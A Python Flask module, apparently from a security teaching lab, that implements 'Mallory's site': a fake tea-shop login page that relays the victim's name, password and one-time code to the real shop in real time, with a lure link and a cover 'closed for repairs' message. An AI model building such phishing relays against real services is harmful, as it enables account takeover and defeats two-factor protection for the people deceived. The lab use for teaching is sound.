"""Mallory's site: a copy of the shop's log-in page, behind which she logs in at the real one at the same moment.

Alice ──name, password──▶ mallory ──name, password──▶ shop
Alice ──code────────────▶ mallory ──code────────────▶ shop ──a session, for Mallory──▶
"""

from typing import Any

from flask import Flask, request
from markupsafe import Markup

from labsrv.kit.lessons.small_page import mallorys_page

FIRST = Markup(
    '<form method="post" action="/login" name="login"><p><label>Name <input name="name" required></label></p>'
    '<p><label>Password <input name="password" type="password" required></label></p><button>Log in</button></form>'
)
SECOND = Markup(
    '<form method="post" action="/second" name="second"><p><label>Code <input name="code" required></label></p>'
    "<button>Log in</button></form>"
)


def mallorys_site(lab: Any) -> Flask:
    """Return Mallory's site, over the lab in which her browser is."""
    site = Flask("mallory")

    @site.get("/")
    def home() -> str:
        link = Markup('<p><a href="{}">The shop wants you to set up your app again.</a></p>')
        return mallorys_page("News from the tea shop", link.format(lab.url("shop", "/account/second")))

    @site.get("/login")
    def login() -> str:
        return mallorys_page("Tea shop: log in", FIRST, heading="Log in")

    # Passed on while the victim waits: a code is good for half a minute, and that is enough.
    @site.post("/login")
    def pass_on_the_password() -> str:
        lab.mallory.submit(lab.shop.login, name=request.form["name"], password=request.form["password"])
        return mallorys_page("Tea shop: your code", SECOND, heading="Your code")

    @site.post("/second")
    def pass_on_the_code() -> str:
        lab.mallory.submit(lab.shop.second, code=request.form["code"], kind="app")
        return mallorys_page("Tea shop: closed", "We are repairing the shop. Please come back tomorrow.")

    return site
